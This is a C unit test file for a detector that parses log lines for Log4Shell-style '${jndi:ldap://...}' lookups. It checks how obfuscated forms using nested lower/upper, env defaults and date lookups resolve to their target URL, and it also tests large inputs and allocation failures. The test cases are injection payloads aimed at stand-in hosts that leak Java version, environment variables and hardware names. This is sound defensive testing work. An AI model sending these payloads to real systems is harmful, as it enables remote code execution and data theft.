/* Targets: what only the server knows stands as a variable in them, the rest as the text says it.
 */
#include "unit.h"

#include "base/limits.h"
#include "failalloc.h"
#include "lookup/examine.h"

static const struct {
    const char *inside, *target; /* of ${jndi:…} */
} cases[] = {
    {"ldap://h.example/a", "ldap://h.example/a"},
    {"ldap://${java:version}.h/a", "ldap://${java:version}.h/a"},
    {"ldap://${JAVA:os}${java:vm}.h/a", "ldap://${JAVA:os}${java:vm}.h/a"},
    {"ldap://${lower:A${java:version}B}.h/a", "ldap://a${java:version}b.h/a"},
    {"ldap://${upper:\xc3\x9f${lower:${java:hw}}.h}/a", "ldap://SS${java:hw}.H/a"},
    {"ldap://${upper:\xc5\x89${java:hw}.h}/a",
     "ldap://${java:hw}/a"}, /* of which no part is known */
    {"ldap://${foo:-x${java:hw}y}.h/a", "ldap://x${java:hw}y.h/a"},
    {"ldap://${foo:hostName}.${contextName}.h/a", "ldap://${foo:hostName}.${contextName}.h/a"},
    {"ldap://${event:Logger}.h/a", "ldap://${event:Logger}.h/a"},
    {"ldap://${date:yyyy}${date:'y'}${date:1-2}.h/a", "ldap://${date:yyyy}y1-2.h/a"},
    {"ldap://${date:${java:version}}.h/a", "ldap://${java:version}.h/a"},
    {"ldap://${env:A}.h/${env:B}", "ldap://${env:A}.h/${env:B}"}, /* stays as it is written */
    {"ldap://${env:A:-}.h/${env:B:-bc}", "ldap://${env:A:-}.h/${env:B:-bc}"},
    {"ldap://${env:A:-e}vil.h/${env:B:-b}", "ldap://evil.h/${env:B:-b}"}, /* a letter of a word */
    {"${env:A:-ldap}${env:A:-:}//${env:A:-h}/a", "ldap://${env:A:-h}/a"},
    {"ldap://${env:A:-h:389}/a", "ldap://h:389/a"},
    {"ldap://${env:A:-h/a}", "ldap://h/a"},
    {"ldap://h/${env:A:-b/c}", "ldap://h/${env:A:-b/c}"},
    {"ldap://127.0.0.1#${env:A:-h:389}/a", "ldap://127.0.0.1#h:389/a"},
    {"ldap://${env:A:-${env:B}.h}/a", "ldap://${env:A:-}${env:B}.h/a"}, /* either leaks */
    {"ldap://${env:A:-x.${env:B:-${java:vm}}}/a", "ldap://${env:A:-}x.${env:B:-}${java:vm}/a"},
    {"ldap://${a:b}.${c:-d}.h/a", "ldap://${a:b}.d.h/a"},
    {"ldap://${env:${java:version}:-h}/a", "ldap://${env:Java version 17.0.15:-h}/a"},
    {"ldap://${${java:version}:-h}/a", "ldap://h/a"}, /* whatever it is called */
    {"ldap://${sys:file.separator}${sys:a}/a", "ldap:///${sys:a}/a"},
    {"${java:version}", "${java:version}"},
    {"", ""},
};

static void targets(void **state)
{
    struct examiner *x = NULL;
    char line[200];
    (void)state;
    assert_ok(examiner_new(&x));
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        for (int cut = 0; cut < 2; cut++) {
            struct examined found;
            struct slice target;
            int n =
                snprintf(line, sizeof line, "$${a} ${jndi:%s%s", cases[i].inside, cut ? "" : "}");
            assert_ok(examine(x, slice_of((const uint8_t *)line, (size_t)n), &found));
            assert_int_equal(found.verdict, cut ? VERDICT_IF_CLOSED : VERDICT_REACHES);
            assert_ok(examiner_target(x, &found, &target));
            assert_slice_equal(target, cases[i].target);
        }
    }
    examiner_free(x);
}

/* Of more variables than are followed those that can get into the lookup are. */
static void many_variables(void **state)
{
    static const struct {
        const char *head, *repeated, *tail, *target;
    } texts[] = {
        {"", "${env:a:-b}", "${jndi:ldap://${java:vm}.h/a}", "ldap://${java:vm}.h/a"},
        {"${a ", "${env:a:-b}", "${jndi:ldap://${java:vm}.h/a}", "ldap://${java:vm}.h/a"},
        {"$${jndi:ldap://${java:vm}.h/} ", "${env:a:-bc}", "${q}", "ldap://${...}"},
        {"${jndi:ldap://", "${env:a:-bc}", "${java:vm}.h/}", "ldap://${...}"},
        {"${jndi:ldap://h/", "${env:a:-b/c}", "${java:vm}}", NULL},
    };
    struct examiner *x = NULL;
    (void)state;
    assert_ok(examiner_new(&x));
    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        struct examined found;
        struct slice target;
        struct buf b;
        buf_init(&b, KIB(64));
        (void)buf_add_str(&b, texts[i].head);
        for (int k = 0; k < 3 * 128; k++)
            (void)buf_add_str(&b, texts[i].repeated);
        (void)buf_add_str(&b, texts[i].tail);
        assert_ok(examine(x, buf_slice(&b), &found));
        assert_int_equal(found.verdict, VERDICT_REACHES);
        assert_ok(examiner_target(x, &found, &target));
        if (texts[i].target)
            assert_slice_equal(target, texts[i].target);
        else
            assert_true(slice_starts(target, SLICE_LIT("ldap://h/${env:a:-b/c}${env:a:-b/c}")));
        buf_done(&b);
    }
    examiner_free(x);
}

static void memory_runs_out(void **state)
{
    static const char line[] = "${jndi:ldap://${java:version}.${env:A:-b}.h/a}";
    (void)state;
    for (unsigned long n = 1;; n++) {
        struct examiner *x = NULL;
        struct examined found;
        struct slice target;
        failalloc_at(n);
        enum status st = examiner_new(&x);
        if (st == OK)
            st = examine(x, slice_str(line), &found);
        if (st == OK)
            st = examiner_target(x, &found, &target);
        bool hit = failalloc_hit();
        if (st == OK) /* without memory for names nothing invented is told, either */
            assert_true(slice_find(target, SLICE_LIT("17.")) == target.n);
        else
            assert_int_equal(st, ST_NOMEM);
        examiner_free(x);
        if (!hit)
            break;
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(targets),
        cmocka_unit_test(many_variables),
        cmocka_unit_test(memory_runs_out),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
